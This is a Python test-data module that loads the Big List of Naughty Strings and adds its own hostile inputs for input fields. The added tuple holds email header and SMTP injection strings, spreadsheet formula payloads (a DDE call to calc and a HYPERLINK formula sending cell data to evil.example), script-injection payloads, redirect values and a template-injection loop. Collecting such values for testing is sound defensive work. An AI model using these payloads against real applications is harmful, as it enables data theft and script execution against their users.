"""The Big List of Naughty Strings by Max Woolf (MIT, see LICENSE here), as published in May 2020.

`STRINGS` is all of it but repetitions; `OURS` are a few that a list for input fields has not.
"""

import json
from pathlib import Path

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(json.loads(Path(__file__).with_name("blns.json").read_text(encoding="utf8")))
)
OURS = (
    "Ann\r\nBcc: everybody@example.com",
    "Ann\n\n<script>alert(1)</script>",
    "Ann\rSubject: other",
    "Ann\u2028Bcc: x@example.com",
    "Ann\x85Bcc: x@example.com",
    "\r\n.\r\nMAIL FROM:<x@example.com>\r\n",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Error")',
    "+1+1",
    "\t=1+1",
    "https://evil.example/",
    "//evil.example/",
    "https:evil.example",
    "\\\\evil.example\\x",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/../../admin?next=//evil.example#",
    "?m=other&to=everybody",
    '","to":"everybody@example.com","x":"',
    "</script><script>alert(1)//",
    "--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "{{ customer }}{% for a in range(1000000) %}",
)
ALL = (*STRINGS, *OURS)
